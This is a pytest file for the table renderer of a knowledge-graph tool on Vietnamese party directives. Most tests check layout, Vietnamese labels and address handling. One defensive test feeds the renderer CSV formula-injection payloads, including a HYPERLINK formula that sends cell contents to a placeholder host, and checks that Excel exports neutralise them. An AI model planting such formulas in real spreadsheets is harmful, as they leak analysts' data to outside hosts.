"""kg.queries.table: a table for the terminal fits its width, and says what it left out."""
from __future__ import annotations

import json

import pytest

from kg.queries.table import Table


def wide_table() -> Table:
    columns = ["document", "key", "label", "issuer", "place", "date", "depth"]
    row = {"document": "https://w3id.org/directive-kg/id/doc/party/tu/legacy-20/ctr/115/term-2020-2025",
           "key": "115-CTr/TU", "label": "Chương trình hành động thực hiện Nghị quyết số 46-NQ/TW của Bộ Chính trị",
           "issuer": "Ban Thường vụ Tỉnh ủy Lạng Sơn", "place": "Lạng Sơn", "date": "2024-04-15", "depth": 1}
    return Table(columns=columns, rows=[row, {**row, "key": "27-KH/HU", "depth": 2}])


@pytest.mark.parametrize("width", [60, 80, 100, 160])
def test_every_line_fits_the_terminal(width):
    text = wide_table().render("table", width=width)
    assert all(len(line) <= width for line in text.splitlines() if not line.startswith("("))
    assert "115-CTr" in text  # the key column is kept however narrow the terminal


def test_columns_left_out_are_named_with_the_way_to_see_them():
    text = wide_table().render("table", width=50)
    note = text.splitlines()[-1]
    assert "not shown" in note and "depth" in note and "--format csv" in note


def test_a_wide_terminal_or_a_pipe_changes_nothing():
    table = wide_table()
    assert table.render("table", width=1000) == table.render("table")
    assert "not shown" not in table.render("table")


def test_a_table_for_a_vietnamese_reader_says_headers_levels_and_statuses_in_vietnamese():
    table = Table(columns=["key", "level", "status", "depth"],
                  rows=[{"key": "115-CTr/TU", "level": "province", "status": "pending", "depth": 1}])
    lines = table.render("table", lang="vi").splitlines()
    assert lines[0].split() == ["Số", "hiệu", "Cấp", "Tình", "trạng", "Tầng"]
    assert "Tỉnh" in lines[2] and "province" not in lines[2] and "pending" not in lines[2]
    assert lines[-1] == "(1 dòng)"


def test_columns_left_out_are_named_in_vietnamese_too():
    note = wide_table().render("table", width=50, lang="vi").splitlines()[-1]
    assert "cột không hiện" in note and "Tầng" in note and "--format csv" in note
    # each hidden column also by the name CSV and JSON give it, where the note sends the reader
    assert "Tầng (depth)" in note
    assert wide_table().render("csv", lang="vi").splitlines()[0].endswith(",depth")


def test_scripts_keep_the_names_and_codes_in_any_language():
    table = Table(columns=["key", "level"], rows=[{"key": "115-CTr/TU", "level": "province"}])
    assert table.render("csv", lang="vi") == "key,level\n115-CTr/TU,province\n"
    assert table.render("table", lang=None).splitlines()[0].split() == ["Key", "Level"]  # (a person reads a table)


UNNUMBERED = "KH:thực hiện Nghị quyết 46-NQ/TW"


def test_a_text_table_names_an_unnumbered_document_and_says_its_level_is_unknown():
    table = Table(columns=["key", "level", "implements"],
                  rows=[{"key": UNNUMBERED, "level": None, "implements": f"46-NQ/TW; {UNNUMBERED}"},
                        {"key": "115-CTr/TU", "level": "province", "implements": "46-NQ/TW"}])
    vi = table.render("table", lang="vi")
    assert "Kế hoạch thực hiện Nghị quyết 46-NQ/TW  Chưa rõ cấp  46-NQ/TW; Kế hoạch thực hiện" in vi
    assert "KH:" not in vi and "Tỉnh" in vi
    assert "Kế hoạch thực hiện Nghị quyết 46-NQ/TW  Unknown" in table.render("table")
    # scripts keep the key and an empty level
    assert table.to_json()["rows"][0] == {"key": UNNUMBERED, "level": None, "implements": f"46-NQ/TW; {UNNUMBERED}"}
    assert f"{UNNUMBERED},," in table.render("csv")


def test_an_empty_level_is_unknown_only_in_a_row_about_a_document():
    # near miss: a timeline's event has no key and no level; it says nothing about a level
    table = Table(columns=["what", "key", "level"], rows=[{"what": "event", "key": None, "level": None}])
    assert "unknown" not in table.render("table") and "Chưa rõ" not in table.render("table", lang="vi")


def test_cells_for_a_spreadsheet_never_start_a_formula():
    """An article's words become cells of the CSV an analyst opens in Excel: text that begins as a formula would
    (``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is kept as text by the apostrophe Excel itself uses;
    numbers, negative ones too, and other text are left alone, and the CSV for scripts keeps every cell as it is."""
    import csv
    import io

    hostile = ['=HYPERLINK("http://example.invalid/?x="&A1,"Xem")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
    rows = [{"text": t, "value": -5, "note": "Kết nạp 1.500 hội viên"} for t in hostile]
    table = Table(columns=["text", "value", "note"], rows=rows)
    excel = list(csv.reader(io.StringIO(table.render("csv", excel=True).lstrip("\ufeff"), newline="")))
    assert [r[0] for r in excel[1:]] == ["'" + t.replace("\r", "\n") for t in hostile]
    assert {r[1] for r in excel[1:]} == {"-5"} and {r[2] for r in excel[1:]} == {"Kết nạp 1.500 hội viên"}
    tsv = list(csv.reader(io.StringIO(table.render("tsv", excel=True).lstrip("\ufeff"), newline=""), delimiter="\t"))
    assert len(tsv) == 1 + len(hostile) and all(r[0].startswith("'") for r in tsv[1:])
    # near miss: the CSV for scripts is not changed
    plain = list(csv.reader(io.StringIO(table.render("csv"), newline="")))
    assert [r[0] for r in plain[1:]] == [t.replace("\r", "\n") for t in hostile]  # (a carriage return is a line break)


def test_a_text_table_names_an_events_kind_in_its_language():
    """`dkg query timeline` showed its events' kinds as codes ("study-session", "interim-review") in a Vietnamese
    table (newcomer27's walk); the words are the event vocabulary's, as the cards say them. Scripts keep the codes."""
    timeline = Table(columns=["what", "type"], rows=[{"what": "event", "type": "study-session"},
                                                     {"what": "event", "type": "interim-review"},
                                                     {"what": "document", "type": "KH"}])
    vi = timeline.render("table", lang="vi")
    assert "Quán triệt, học tập" in vi and "Sơ kết" in vi and "study-session" not in vi and "interim-review" not in vi
    en = timeline.render("table", lang="en")
    assert "Study session" in en and "Interim review" in en
    assert "Kế hoạch" in vi and "Plan" in en  # near miss: a document's type code is no event kind, said as its type
    assert [r["type"] for r in timeline.to_json()["rows"]] == ["study-session", "interim-review", "KH"]
    # near misses: the column "kind" (a body's in the directory, "other" among them, a review's in reviews) is
    # not an event's kind
    assert "study-session" in Table(columns=["kind"], rows=[{"kind": "study-session"}]).render("table", lang="vi")
    assert "other" in Table(columns=["kind"], rows=[{"kind": "other"}]).render("table", lang="vi")


def test_a_document_is_named_by_its_type_and_symbol_and_an_event_keeps_its_label():
    doc = "https://w3id.org/directive-kg/id/doc/party/tw/nq/46/khoa-xiii"
    table = Table(columns=["item", "key", "type", "label", "when"],
                  rows=[{"item": doc, "key": "46-NQ/TW", "type": "NQ", "label": "Nghị quyết 46-NQ/TW", "when": "2023-12-20"},
                        {"item": "https://w3id.org/directive-kg/id/event/abc", "key": None, "type": "review-conference",
                         "label": "Hội nghị sơ kết", "when": "2024-12-20"}])
    text = table.render("table", lang="vi")
    assert "Nghị quyết 46-NQ/TW" in text.splitlines()[2] and "20/12/2023" in text
    assert "Hội nghị sơ kết" in text.splitlines()[3] and "id:event" not in text  # (no key: an event by its label)
    # near miss: a document the row gives no key for keeps its address
    bare = Table(columns=["document", "date"], rows=[{"document": doc, "date": "2023-12-20"}]).render("table")
    assert "id:doc/party/tw/nq/46/khoa-xiii" in bare and "2023-12-20" in bare


ID = "https://w3id.org/directive-kg/id/"


def test_bodies_places_targets_and_sources_are_named_by_their_labels_and_the_twins_keep_the_addresses():
    """`dkg query bodies`, `coverage`, `targets` printed "id:body/...", "id:place/2025/01", "id:target/..." and
    "id:source/..." beside the names the rows give them (tidy35b's walk): the text a person reads says the name once,
    a body's kind in the reader's words; CSV and JSON keep every address."""
    bodies = Table(columns=["body", "name", "kind", "tasks"], query="bodies",
                   rows=[{"body": ID + "body/x/hoi-nong-dan", "name": "Hội Nông dân tỉnh", "kind": "party-delegation", "tasks": 3}])
    vi = bodies.render("table", lang="vi")
    assert "Hội Nông dân tỉnh" in vi.splitlines()[2] and "id:body" not in vi and vi.count("Hội Nông dân tỉnh") == 1
    assert "Ban cán sự đảng, Đảng đoàn" in vi and "party-delegation" not in vi
    assert "party-delegation" not in bodies.render("table", lang="en")
    assert json.loads(bodies.render("json"))[0]["body"] == ID + "body/x/hoi-nong-dan"
    assert ID + "body/x/hoi-nong-dan" in bodies.render("csv")
    coverage = Table(columns=["unit", "kind", "code", "name"], rows=[{"unit": ID + "place/2025/01", "kind": "province",
                                                                      "code": "01", "name": "Hà Nội"}])
    assert "Hà Nội" in coverage.render("table", lang="vi") and "id:place" not in coverage.render("table", lang="vi")
    targets = Table(columns=["target", "set_by", "text", "source", "source_title"],
                    rows=[{"target": ID + "target/ab", "set_by": "115-CTr/TU", "text": "Kết nạp 1.500 hội viên",
                           "source": ID + "source/cd", "source_title": "Lạng Sơn ban hành Chương trình"}])
    text = targets.render("table", lang="vi")
    assert text.splitlines()[2].startswith("Kết nạp 1.500 hội viên") and "Lạng Sơn ban hành Chương trình" in text
    assert "id:" not in text and text.count("Kết nạp") == 1
    # an outcome's target the row does not name: the target of the document that set it
    outcomes = Table(columns=["outcome", "target", "set_by", "text"],
                     rows=[{"outcome": ID + "outcome/ef", "target": ID + "target/ab", "set_by": "115-CTr/TU", "text": "Đã kết nạp"}])
    said = outcomes.render("table", lang="vi")
    assert "Chỉ tiêu của Chương trình 115-CTr/TU" in said or "Chỉ tiêu của 115-CTr/TU" in said
    assert "id:" not in said


def test_near_miss_a_node_its_row_does_not_name_keeps_its_address():
    bare = Table(columns=["body", "tasks"], query="bodies", rows=[{"body": ID + "body/x/y", "tasks": 1}])
    assert "id:body/x/y" in bare.render("table", lang="vi")
    # a name's column that is no node's (a directory without its addresses) is kept
    names = Table(columns=["name", "kind"], query="directory", rows=[{"name": "Sở Nội vụ", "kind": "department"}])
    assert "Sở Nội vụ" in names.render("table", lang="vi")
    # and a kind outside the bodies' queries is not a body's
    assert "party-delegation" in Table(columns=["kind"], rows=[{"kind": "party-delegation"}]).render("table", lang="vi")


def test_the_document_query_names_its_document_and_leaves_the_addresses_its_values_name_to_the_twins():
    doc = ID + "doc/x/kh/54"
    rows = [{"document": doc, "field": "key", "value": "54/KH-UBND", "target": None, "detail": None},
            {"document": doc, "field": "type", "value": "KH", "target": None, "detail": None},
            {"document": doc, "field": "issuer", "value": "UBND tỉnh", "target": ID + "body/x/ubnd", "detail": None}]
    table = Table(columns=["document", "field", "value", "target", "detail"], rows=rows, query="document")
    text = table.render("table", lang="vi")
    assert text.splitlines()[2].startswith("Kế hoạch 54/KH-UBND ") and "id:" not in text and "UBND tỉnh" in text
    assert json.loads(table.render("json"))[2]["target"] == ID + "body/x/ubnd"
    # near miss: another query's column named target is kept
    other = Table(columns=["document", "field", "value", "target"], rows=rows, query="cascade").render("table", lang="vi")
    assert "id:body/x/ubnd" in other
